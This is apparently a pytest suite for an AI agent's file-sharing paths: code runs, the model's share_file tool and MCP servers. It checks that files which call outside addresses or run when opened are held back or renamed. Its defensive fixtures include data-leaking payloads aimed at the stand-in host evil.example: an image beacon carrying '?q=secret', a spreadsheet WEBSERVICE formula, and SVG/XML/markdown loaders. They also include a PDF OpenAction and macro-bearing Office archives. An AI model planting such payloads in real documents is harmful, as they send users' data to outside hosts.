"""The files of code, of the model and of tool servers go to people by one rule: on each of these roads the same files
stay, with the same words.
"""

import base64
import zipfile
from collections.abc import Sequence
from datetime import UTC, datetime
from io import BytesIO
from typing import Any

import pytest
from mcp_types import CallToolResult, GetPromptResult, ReadResourceResult

from agent.errors import ToolError
from agent.incoming import Person
from agent.memory.audience import PersonAudience, Place
from agent.messages import ResultPart, ResultStatus, SharedFile, ToolCall
from agent.ports.tools import ToolContext
from agent.progress import Progress, RoundStep
from agent.toolbox.results import ToolLimits, result_of
from agent.tools.share_file import NAME, ShareFileTool, shared_files
from bot.chat.attachments.handed_over import MACROS, OUTSIDE, RUNS, file_of_server, readable_code, text_of_model
from bot.chat.reply.attached_files import LONG_LINES, attached_files
from bot.chat.reply.surface import Limits
from bot.python.engine import RunFile
from bot.python.result_files import result_files
from bot.tools.mcp.result_parts import parts_of, prompt_parts, resource_parts
from tests.fakes import documents, pdfs

NOW = datetime(2026, 1, 5, tzinfo=UTC)
CONTEXT = ToolContext(Person("ann", "Ann"), Place(PersonAudience("ann")), "thread", 1, NOW)
EVIL = "https://evil.example/x"
STAYS = OUTSIDE.partition(";")[0]
TEXTS = [
    ("page.html", f'<img src="{EVIL}?q=secret">'),
    ("page.htm", "<script>1</script>"),
    ("PAGE.HTML", f'<link rel="stylesheet" href="{EVIL}">'),
    ("page.html.", f'<iframe src="{EVIL}"></iframe>'),
    ("folder/page.html ", f"<style>@import '{EVIL}'</style>"),
    ("chart.svg", f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{EVIL}"/></svg>'),
    ("data.xml", f'<?xml-stylesheet href="{EVIL}"?><a/>'),
    ("notes.md", f"![chart]({EVIL}?q=secret)"),
]
RUN = [("a.url", f"[InternetShortcut]\nURL={EVIL}"), ("a.hta", "<p>"), ("a.js", "1"), ("A.BAT", "dir"), ("a.lnk.", "x")]


def by_code(name: str, data: bytes) -> tuple[Sequence[SharedFile], str]:
    found = result_files([RunFile(name, data)])
    return found.files, "".join(found.left_out)


def in_a_result(parts: Sequence[ResultPart]) -> tuple[Sequence[SharedFile], str]:
    files = [part for part in parts if isinstance(part, SharedFile)]
    return files, "".join(part for part in parts if isinstance(part, str))


def by_server(name: str, data: bytes, road: str = "tool") -> tuple[Sequence[SharedFile], str]:
    blob = {"uri": f"demo://host/{name}", "blob": base64.b64encode(data).decode()}
    block: dict[str, Any] = {"type": "resource", "resource": blob}
    match road:
        case "tool":
            return in_a_result(parts_of(CallToolResult.model_validate({"content": [block]})))
        case "resource":
            return in_a_result(resource_parts(ReadResourceResult.model_validate({"contents": [blob]})))
        case _:
            message = {"role": "user", "content": block}
            return in_a_result(prompt_parts(GetPromptResult.model_validate({"messages": [message]})))


async def by_model(name: str, text: str) -> tuple[Sequence[SharedFile], str]:
    """What stands below the answer after a call of `share_file`, and why it failed."""
    call = ToolCall(NAME, {"name": name, "content": text})
    try:
        output = await ShareFileTool(checked=text_of_model).run(call.args, CONTEXT)
    except ToolError as error:
        return (), str(error)
    step = RoundStep(
        NOW, calls=(call,), results=(result_of(NAME, ResultStatus.SUCCESS, output, "person:ann", ToolLimits()),)
    )
    return shared_files(Progress(steps=(step,))), ""


@pytest.mark.parametrize(("name", "text"), [*TEXTS, *RUN])
async def test_what_calls_an_address_or_runs_when_it_is_opened_stays_on_each_road(name: str, text: str) -> None:
    reason = RUNS if (name, text) in RUN else STAYS
    for road in ("tool", "resource", "prompt"):
        files, why = by_server(name, text.encode(), road)
        assert (files, reason in why) == ([], True), road
    for files, why in (by_code(name, text.encode()), await by_model(name, text)):
        assert (tuple(files), reason in why) == ((), True)


@pytest.mark.parametrize(
    ("name", "data", "reason"),
    [
        ("a.pdf", pdfs.pdf("Hello").replace(b"/Type /Catalog", b"/OpenAction 1 0 R /Type /Catalog"), STAYS),
        ("a.docx", documents.archive({"[Content_Types].xml": "<a/>", "word/vbaProject.bin": "x"}), MACROS),
        ("a.xlsx", documents.archive({"[Content_Types].xml": "<a/>", "xl/connections.xml": "<a/>"}), STAYS),
    ],
)
def test_documents_that_act_stay_on_each_road(name: str, data: bytes, reason: str) -> None:
    for files, why in (by_code(name, data), *(by_server(name, data, road) for road in ("tool", "resource", "prompt"))):
        assert (list(files), reason in why) == ([], True)


async def test_a_table_has_no_formulas_and_a_page_its_policy_on_each_road() -> None:
    table, page = f'name,link\nann,"=WEBSERVICE(""{EVIL}?""&A2)"\n', "<p>Hello</p>"
    for name, text in (("table.csv", table), ("page.html", page)):
        (of_code,), _ = by_code(name, text.encode())
        (of_server,), _ = by_server(name, text.encode())
        (of_model,), _ = await by_model(name, text)
        assert of_code.data == of_server.data == of_model.data != text.encode()


async def test_a_file_of_the_model_has_the_name_of_what_it_is_and_comes_once() -> None:
    (file,), _ = await by_model("tool.kt", "fun main() {}")
    assert (file.name, file.data) == ("tool.kt.txt", b"fun main() {}")
    (file,), _ = await by_model("prices.csv", "1,2")
    assert (file.name, file.data) == ("prices.csv", b"1,2")


def test_recordings_and_archives_of_a_server_come_and_what_nobody_knows_is_opened_by_nothing() -> None:
    package = BytesIO()
    with zipfile.ZipFile(package, "w") as archive:
        archive.writestr("a.txt", "a")
    for name, data in (("a.mp3", b"ID3\x04\xff"), ("a.wav", b"RIFF\0\0\xff\xffWAVE"), ("a.zip", package.getvalue())):
        assert file_of_server(name, data) == SharedFile(name, "application/octet-stream", data)
    for name in ("a.exe", "a.xls", "a.docm", "a.zip", "a.mp3"):
        found = file_of_server(name, b"MZ\xff\x00")
        assert isinstance(found, SharedFile)
        assert found.name == f"{name}.bin"


@pytest.mark.parametrize("language", ["html", "svg", "xml", "md"])
def test_code_of_an_answer_that_acts_when_it_is_opened_has_the_ending_of_a_text(language: str) -> None:
    acts = next(text for name, text in TEXTS if name.endswith(f".{language}"))
    quiet = {"html": "<p>Hello</p>", "svg": '<svg xmlns="http://www.w3.org/2000/svg"/>', "xml": "<a/>", "md": "Hello"}
    for text, ending in ((acts, f"{language}.txt"), (quiet[language], language)):
        code = "\n".join([text, *["<!-- -->" if language != "md" else "line"] * LONG_LINES])
        (file,) = attached_files(f"```{language}\n{code}\n```", pages=1, limits=Limits(4_000, 1.0), named=readable_code)
        assert file.name.partition(".")[2] == ending
        assert file.content.decode().rstrip("\n") == code, "it has exactly the code"


@pytest.mark.parametrize("language", ["csv", "tsv", "url", "iqy", "slk", "hta", "desktop", "webloc"])
def test_code_of_an_answer_that_a_program_runs_or_fetches_for_has_the_ending_of_a_text(language: str) -> None:
    code = "\n".join([f"=WEBSERVICE({EVIL})"] * (LONG_LINES + 1))
    (file,) = attached_files(f"```{language}\n{code}\n```", pages=1, limits=Limits(4_000, 1.0), named=readable_code)
    assert file.name == f"code.{language}.txt"
    assert file.content.decode().rstrip("\n") == code, "it has exactly the code"


@pytest.mark.parametrize("language", ["csv", "py", "js", "bat"])
def test_other_code_of_an_answer_keeps_its_ending(language: str) -> None:
    code = "\n".join(["name,1"] * (LONG_LINES + 1))
    (file,) = attached_files(f"```{language}\n{code}\n```", pages=1, limits=Limits(4_000, 1.0), named=readable_code)
    assert file.name == f"code.{language}"
